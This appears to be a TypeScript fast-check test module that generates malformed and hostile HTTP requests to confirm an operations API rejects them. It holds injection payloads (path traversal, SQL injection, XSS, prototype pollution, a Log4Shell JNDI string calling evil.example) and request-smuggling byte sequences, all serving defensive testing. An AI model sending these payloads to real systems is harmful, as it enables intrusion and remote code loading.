import fc from 'fast-check'
import { notification, postedAlert } from './alerts.ts'
import { OPERATOR_TOKEN, VIEWER_TOKEN, WEBHOOK_TOKEN } from './api.ts'

/** A request that no route may take, over HTTP. */
export interface HostileRequest {
  readonly method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH' | 'OPTIONS' | 'HEAD'
  readonly url: string
  readonly headers: Readonly<Record<string, string>>
  readonly payload?: string
}

const OPERATOR = { authorization: `Bearer ${OPERATOR_TOKEN}`, host: 'localhost' }
const VIEWER = { authorization: `Bearer ${VIEWER_TOKEN}`, host: 'localhost' }
const WEBHOOK = { authorization: `Bearer ${WEBHOOK_TOKEN}`, host: 'localhost' }
const JSON_TYPE = { 'content-type': 'application/json' }

const READS = [
  '/openapi.json',
  '/api/v1/status',
  '/api/v1/workloads',
  '/api/v1/workloads/catalog',
  '/api/v1/fleet',
  '/api/v1/journal',
  '/api/v1/journal/head',
  '/api/v1/journal/verify',
  '/api/v1/report',
  '/api/v1/decommission',
  '/api/v1/stream',
]
const OPEN = ['/healthz', '/readyz', '/metrics']
const COMMANDS = ['/api/v1/workloads/catalog/commands', '/api/v1/commands']
const SESSION = '/api/v1/session'
const ALERTS = '/api/v1/webhooks/alertmanager'
const CHANGES = [...COMMANDS, '/api/v1/reload', ALERTS]
const NASTY = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%zz',
  '%',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'ﷺ'.repeat(100),
  'a'.repeat(4000),
  '-1',
  '1e309',
  'NaN',
  '0x10',
  '[]',
  ' ',
]

const nasty = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 60 }))
/** In a header no line may end. */
const inHeader = nasty.map((text) => text.replaceAll(/[^\x20-\x7e]/g, '?').slice(0, 2000))
const route = fc.constantFrom(...READS, ...CHANGES, SESSION)
const methodOf = (url: string) => (CHANGES.includes(url) ? 'POST' : 'GET')

const badToken = fc.oneof(
  inHeader,
  inHeader.map((text) => `Bearer ${text}`),
  inHeader.map((text) => `Basic ${Buffer.from(`ada:${text}`).toString('base64')}`),
  fc.constant(`Basic ${Buffer.from(`ada:${OPERATOR_TOKEN}`).toString('base64')}`),
  fc.constant(`Bearer ${OPERATOR_TOKEN.slice(0, -1)}`),
  fc.constant(`Bearer ${OPERATOR_TOKEN} ${VIEWER_TOKEN}`),
  fc
    .tuple(fc.json({ maxDepth: 2 }), fc.json({ maxDepth: 2 }))
    .map((parts) => `Bearer ${parts.map((part) => Buffer.from(part).toString('base64url')).join('.')}.c2ln`),
)

const badBody = fc.oneof(
  fc.json({ maxDepth: 4 }).map((text) => text),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.constantFrom(
    '{"command":"revert","reason":"x","__proto__":{"force":true}}',
    '{"command":"revert","reason":"x","constructor":{"prototype":{}}}',
    '{"command":"revert","reason":"two\\nlines"}',
    '{"command":"explode","reason":"x"}',
    '{"command":"pause","reason":"x","force":true}',
    '{"command":"pause","reason":"x","force":"yes"}',
    '{"command":"pause","reason":""}',
    '{"command":"pause","reason":{"$gt":""}}',
    '{"command":["pause"],"reason":"x"}',
    '{"command":"pause","reason":"x","role":"admin"}',
    '[',
    '{"a":'.repeat(2000),
    '['.repeat(20_000),
    `{"reason":"${'x'.repeat(70_000)}"}`,
    '',
  ),
)

/** None of which can be read: were there one that can, it would be taken, as an alert must not be lost. */
const badAlert = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc
    .record({ key: fc.constantFrom('status', 'labels', 'annotations', 'startsAt'), value: nasty })
    .map(({ key, value }) => postedAlert({}, { [key]: value })),
  nasty.map((text) => postedAlert({}, { fingerprint: `!${text}` })),
  fc.constantFrom(
    postedAlert({ service: 'x'.repeat(5000) }),
    postedAlert({}, { labels: { service: { $gt: '' } } }),
    postedAlert({}, { startsAt: '9999-99-99T00:00:00Z' }),
  ),
)
const badNotification = fc.oneof(
  fc.array(badAlert, { minLength: 1, maxLength: 5 }).map((alerts) => notification(alerts)),
  fc.constantFrom(
    notification([postedAlert()], { version: '3' }),
    notification([postedAlert()], { truncatedAlerts: -1 }),
    notification([], { alerts: { length: 1, 0: postedAlert() } }),
    notification(Array(5001).fill(0)),
  ),
)

/** Sessions of pages: bad ones, and good ones where they may not be used. */
function ofSessions(pages: readonly string[]): readonly fc.Arbitrary<HostileRequest>[] {
  const page = fc.constantFrom(...pages)
  const asked = fc.record({ url: route, isEnd: fc.boolean() }).map(({ url, isEnd }) => {
    const method: HostileRequest['method'] = url !== SESSION ? methodOf(url) : isEnd ? 'DELETE' : 'POST'
    return { method, url }
  })
  const changing = fc.oneof(
    fc.constantFrom(...CHANGES).map((url) => ({ method: 'POST' as const, url })),
    fc.constantFrom('POST' as const, 'DELETE' as const).map((method) => ({ method, url: SESSION })),
  )
  const badCookie = fc.oneof(
    inHeader,
    inHeader.map((text) => `headgate=${text}`),
    inHeader.map((text) => `__Host-headgate=${text}; headgate=${text}`),
    inHeader.map((text) => `headgate=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..${text}.${text}.${text}`),
    page.map((cookie) => cookie.slice(0, -1)),
    page.map((cookie) => cookie.replace('headgate', '__Host-headgate')),
    page.map((cookie) => cookie.replace('.', '.x')),
  )
  const noProof: fc.Arbitrary<Readonly<Record<string, string>>> = fc.oneof(
    fc.constantFrom<Readonly<Record<string, string>>>(
      {},
      { origin: 'http://localhost' },
      { 'sec-fetch-site': 'same-origin', 'x-http-method-override': 'GET' },
      { 'sec-fetch-site': 'cross-site', origin: 'http://localhost' },
    ),
    inHeader.map((text) => ({ origin: 'http://localhost', 'x-csrf-token': text })),
    inHeader.map((text) => ({ origin: `http://x${text}`, 'sec-fetch-site': 'same-origin' })),
  )
  return [
    fc
      .record({ asked, cookie: badCookie })
      .map(({ asked, cookie }) => ({ ...asked, headers: { host: 'localhost', cookie } })),
    fc.record({ asked: changing, cookie: page, proof: noProof }).map(({ asked, cookie, proof }) => ({
      ...asked,
      headers: { host: 'localhost', cookie, ...proof },
    })),
    fc
      .record({ asked, cookie: page, authorization: badToken })
      .map(({ asked, cookie, authorization }) => ({ ...asked, headers: { host: 'localhost', cookie, authorization } })),
  ]
}

/** Each kind of request has a defect for certain. `pages`: cookies of sessions that stand. */
export const hostileRequest = (pages: readonly string[]): fc.Arbitrary<HostileRequest> =>
  fc.oneof(...ofSessions(pages), ...WITHOUT_SESSIONS)

const WITHOUT_SESSIONS: readonly fc.Arbitrary<HostileRequest>[] = [
  // Who may not ask.
  fc.record({ url: route, authorization: badToken }).map(({ url, authorization }) => ({
    ...{ method: methodOf(url), url, headers: { host: 'localhost', authorization } },
  })) as fc.Arbitrary<HostileRequest>,
  route.map((url): HostileRequest => ({ method: methodOf(url), url, headers: { host: 'localhost' } })),
  fc
    .record({ url: fc.constantFrom(...CHANGES), payload: badBody })
    .map(
      ({ url, payload }): HostileRequest => ({ method: 'POST', url, payload, headers: { ...VIEWER, ...JSON_TYPE } }),
    ),
  fc
    .constantFrom(...READS, ...CHANGES.filter((url) => url !== ALERTS))
    .map((url): HostileRequest => ({ method: methodOf(url), url, headers: WEBHOOK })),
  // From where nobody asks.
  fc
    .record({ url: fc.constantFrom(...READS, ...OPEN), host: inHeader })
    .map(({ url, host }): HostileRequest => ({ method: 'GET', url, headers: { ...OPERATOR, host: `x${host}` } })),
  // What does not fit.
  fc
    .record({ url: fc.constantFrom(...COMMANDS), payload: badBody })
    .map(
      ({ url, payload }): HostileRequest => ({ method: 'POST', url, payload, headers: { ...OPERATOR, ...JSON_TYPE } }),
    ),
  fc.record({ url: fc.constantFrom(...COMMANDS), payload: badBody, type: inHeader }).map(
    ({ url, payload, type }): HostileRequest => ({
      ...{ method: 'POST', url, payload },
      headers: { ...OPERATOR, 'content-type': `x/${type}` },
    }),
  ),
  fc
    .record({
      payload: fc.oneof(
        badBody,
        badNotification.map((body) => JSON.stringify(body)),
      ),
      headers: fc.constantFrom(WEBHOOK, OPERATOR),
    })
    .map(
      ({ payload, headers }): HostileRequest => ({
        ...{ method: 'POST', url: ALERTS, payload, headers: { ...headers, ...JSON_TYPE } },
      }),
    ),
  inHeader.map(
    (key): HostileRequest => ({
      method: 'POST',
      url: '/api/v1/workloads/catalog/commands',
      headers: { ...OPERATOR, ...JSON_TYPE, 'idempotency-key': `!${key}` },
      payload: '{"command":"pause","reason":"x"}',
    }),
  ),
  fc
    .record({
      url: fc.constantFrom(
        '/api/v1/journal?limit=',
        '/api/v1/journal?afterSeq=',
        '/api/v1/stream?afterSeq=',
        '/api/v1/journal/verify?hash=',
        '/api/v1/report?format=',
      ),
      value: nasty,
    })
    .map(
      ({ url, value }): HostileRequest => ({
        method: 'GET',
        url: `${url}x${encodeURI(value.toWellFormed())}`,
        headers: OPERATOR,
      }),
    ),
  // What is not there.
  fc
    .record({
      before: fc.constantFrom('/', '/api/', '/api/v1/', '/api/v1/workloads/', '/api/v1/workloads/catalog/', '/static/'),
      value: nasty,
    })
    .map(
      ({ before, value }): HostileRequest => ({
        ...{ method: 'GET', headers: OPERATOR },
        url: `${before}~${value.toWellFormed().replaceAll(/[^\x21-\x7e]/gu, encodeURIComponent)}`,
      }),
    ),
  fc
    .record({ url: route, method: fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS') })
    // Signing out is no attack.
    .filter(({ url, method }) => url !== SESSION || method !== 'DELETE')
    .map(({ url, method }) => ({ method, url, headers: OPERATOR })) as fc.Arbitrary<HostileRequest>,
]

const LINE = '\r\n'
const GET = `GET /api/v1/status HTTP/1.1${LINE}`
const HOST = `Host: localhost${LINE}`
const TOKEN = `Authorization: Bearer ${OPERATOR_TOKEN}${LINE}`
const POST = `POST /api/v1/commands HTTP/1.1${LINE}${HOST}${TOKEN}Content-Type: application/json${LINE}`

/** What comes over the wire and is no request, or none that may be answered: byte by byte. */
export const HOSTILE_BYTES: readonly string[] = [
  `GARBAGE${LINE}${LINE}`,
  `GET${LINE}${LINE}`,
  `GET / HTTP/9.9${LINE}${LINE}`,
  `BREW /api/v1/status HTTP/1.1${LINE}${HOST}${LINE}`,
  `GET /api/v1/status${LINE}${LINE}`,
  `${GET}${LINE}`,
  `${GET}Host: evil.example${LINE}${TOKEN}${LINE}`,
  `${GET}${HOST}Host: evil.example${LINE}Authorization: Bearer nothing${LINE}${LINE}`,
  `${GET}${HOST}No colon${LINE}${LINE}`,
  `${GET}${HOST}Bad Name: x${LINE}${LINE}`,
  `${GET}${HOST}Null: a\0b${LINE}${LINE}`,
  `${GET}${HOST}Large: ${'x'.repeat(20_000)}${LINE}${LINE}`,
  `${GET}${HOST}${'A: b\r\n'.repeat(4000)}${LINE}`,
  `${GET}${HOST}Expect: the impossible${LINE}${LINE}`,
  `GET /${'x'.repeat(20_000)} HTTP/1.1${LINE}${HOST}${LINE}`,
  `GET /%zz HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
  `GET /api/v1/workloads/%c0%ae HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
  `GET http://evil.example/api/v1/status HTTP/1.1${LINE}${HOST}${LINE}`,
  `CONNECT evil.example:443 HTTP/1.1${LINE}Host: evil.example:443${LINE}${LINE}`,
  `TRACE /api/v1/status HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
  `${POST}Content-Length: -1${LINE}${LINE}{}`,
  `${POST}Content-Length: 2${LINE}Content-Length: 9${LINE}${LINE}{}`,
  `${POST}Content-Length: 4${LINE}Transfer-Encoding: chunked${LINE}${LINE}0${LINE}${LINE}`,
  `${POST}Transfer-Encoding: chunked${LINE}${LINE}zz${LINE}{}${LINE}`,
  `${POST}Transfer-Encoding: gzip${LINE}${LINE}{}`,
  `${POST}Content-Length: 2${LINE}${LINE}{}`,
  `PRI * HTTP/2.0${LINE}${LINE}SM${LINE}${LINE}`,
  `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03`,
]
